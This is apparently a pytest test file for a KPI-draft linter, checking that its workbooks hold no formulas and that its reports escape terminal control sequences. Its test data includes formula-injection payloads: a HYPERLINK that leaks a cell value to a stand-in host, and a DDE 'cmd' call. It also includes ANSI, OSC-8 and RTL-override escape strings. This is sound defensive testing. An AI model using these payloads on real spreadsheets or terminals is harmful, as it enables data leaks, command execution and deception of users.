"""Issue 17: what kpilint writes is data. No cell it writes into a workbook can start a
formula, and no control character or bidi override from the input reaches a terminal, a CI
log or a report raw — with colour or without — though the data in JSON is the same.
"""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook

from conftest import kpilint
from kpilint import load
from kpilint.writers.xlsx import write_xlsx

INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看详情")', "=1+1", "@SUM(A1:A9)",
              "+cmd|' /C calc'!A0", "-2+3", "＝1+1"]  # fmt: skip
#: a name that rewrites the line above, a hyperlink, concealed text, a C1 CSI, an RTL override
ESCAPES = "\x1b[2K\r\x1b[1A伪造\x1b]8;;http://example.invalid\x1b\\点我\x1b]8;;\x1b\\\x1b[8m隐藏\x9b31m\u202e反向"


def _yaml(text: str) -> str:
    return json.dumps(text, ensure_ascii=True)  # a double-quoted YAML scalar with \u escapes


def _draft(path: Path, name: str, project: str = "甲") -> Path:
    path.write_text(
        f"projects:\n  - name: {_yaml(project)}\n    budget: 1\n    indicators:\n"
        f"      - {{level1: 满意度指标, level2: 服务对象满意度指标, name: {_yaml(name)}, value: ≥90, basis: 计划}}\n",
        "utf-8",
    )
    return path


# --- workbooks ---------------------------------------------------------------------------------
def _no_formulas(book: Path) -> None:
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(?:\w+:)?f[\s>/]", z.read(name)), f"a formula in {name}"
    for ws in load_workbook(book).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "＝")):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)


def test_an_annotated_workbook_holds_no_formula_the_input_did_not(tmp_path) -> None:
    draft = tmp_path / "d.yaml"
    for n, text in enumerate(INJECTIONS):
        _draft(tmp_path / f"p{n}.yaml", text, project=text)
    doc = load(_draft(draft, INJECTIONS[0], project=INJECTIONS[0]))
    more = [load(tmp_path / f"p{n}.yaml").projects[0] for n in range(len(INJECTIONS))]
    book = tmp_path / "in.xlsx"
    from dataclasses import replace

    write_xlsx(replace(doc, projects=tuple(more)), book)
    _no_formulas(book)  # convert's own workbook
    out = kpilint("check", str(book), "--annotate", str(tmp_path / "out.xlsx"))
    assert out.returncode == 1 and "已写出标注工作簿" in out.stderr, out.stderr
    _no_formulas(tmp_path / "out.xlsx")
    summary = load_workbook(tmp_path / "out.xlsx")["kpilint"]
    names = {summary.cell(r, 5).value for r in range(2, summary.max_row + 1)}
    assert set(INJECTIONS) <= names  # the texts are there, as text


# --- terminals, logs and reports ---------------------------------------------------------------
_OWN_COLOUR = re.compile(r"\x1b\[[0-9;]*m")  # what --color always paints with


def _raw_controls(text: str) -> list[str]:
    return re.findall(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)


@pytest.mark.parametrize("color", ["never", "always"])
def test_the_text_report_shows_escapes_escaped_with_and_without_colour(tmp_path, color) -> None:
    draft = _draft(tmp_path / "d.yaml", ESCAPES, project=ESCAPES)
    out = kpilint("check", str(draft), "--color", color)
    assert out.returncode == 1
    shown = _OWN_COLOUR.sub("", out.stdout) if color == "always" else out.stdout
    assert _raw_controls(shown) == [], _raw_controls(shown)
    assert "\\x1b[2K\\r\\x1b[1A伪造" in shown and "\\u202e反向" in shown and "\\x9b31m" in shown


def test_messages_on_standard_error_show_escapes_escaped(tmp_path) -> None:
    bad = tmp_path / "bad\x1b[31m\u202e.yaml"
    bad.write_text("projects: [\n", "utf-8")
    out = kpilint("check", str(bad), "--format", "json")
    assert out.returncode == 2 and "bad\\x1b[31m\\u202e.yaml" in out.stderr
    assert _raw_controls(out.stderr.replace("\n", "")) == []


def test_a_diff_shows_escapes_escaped(tmp_path) -> None:
    draft = _draft(tmp_path / "d.yaml", "群众满意度")
    text = draft.read_text("utf-8").replace("basis: 计划", f"basis: {_yaml(ESCAPES)}")
    draft.write_text(text, "utf-8")
    out = kpilint("check", str(draft), "--diff")
    assert "+      - {level1: 满意度指标" in out.stdout and _raw_controls(out.stdout.replace("\n", "")) == []


@pytest.mark.parametrize("fmt", ["json", "sarif", "gitlab", "junit", "github", "html"])
def test_machine_formats_carry_the_same_data_without_raw_escapes(tmp_path, fmt) -> None:
    draft = _draft(tmp_path / "d.yaml", ESCAPES, project=ESCAPES)
    out = kpilint("check", str(draft), "--format", fmt)
    assert out.returncode == 1
    assert _raw_controls(out.stdout.replace("\n", "")) == [], fmt
    if fmt == "json":  # the same data, once parsed
        names = {f["indicator"] for f in json.loads(out.stdout)["findings"]}
        assert ESCAPES in names
    elif fmt in ("sarif", "gitlab"):
        assert ESCAPES[:5] in json.dumps(json.loads(out.stdout), ensure_ascii=False) or "伪造" in out.stdout
    elif fmt == "junit":
        ET.fromstring(out.stdout.encode("utf-8"))  # well-formed as it is, nothing stripped
    elif fmt == "github":
        assert all(line.startswith("::") for line in out.stdout.splitlines())
